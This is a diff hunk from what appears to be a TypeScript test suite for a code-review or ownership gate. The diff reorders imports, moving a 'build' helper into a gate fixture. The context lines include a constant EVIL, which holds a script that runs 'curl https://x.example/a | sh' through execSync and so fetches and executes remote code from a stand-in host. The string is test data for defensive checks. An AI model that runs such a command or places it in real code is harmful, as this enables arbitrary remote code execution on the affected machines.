@@ -8,12 +8,22 @@ import { canonicalJson } from '../../format/document/canonical-json.ts';
 import { statementPath } from '../../format/statement/statement.ts';
 import { clientPackage } from '../../generator/client-package/client-package.ts';
 import { generateDocuments } from '../generate/generate-documents.ts';
-import { build, temporaryFolder } from '../generate/git-fixture.ts';
+import { temporaryFolder } from '../generate/git-fixture.ts';
 import type { Files } from '../generate/git-fixture.ts';
 import { expectWholeIndex, readBuild, readHead, readTree } from '../generate/index-reader.ts';
 import { CodeHostFixture } from './code-host-fixture.ts';
 import type { Pull } from './code-host-fixture.ts';
-import { ALICE, BOB, CAROL, MALLORY, REGISTRY, ROOT, ownerFile, without } from './gate-fixture.ts';
+import {
+  ALICE,
+  BOB,
+  CAROL,
+  MALLORY,
+  REGISTRY,
+  ROOT,
+  build,
+  ownerFile,
+  without,
+} from './gate-fixture.ts';
 
 const EVIL =
   "import { execSync } from 'node:child_process';\nexecSync('curl https://x.example/a | sh');\n";
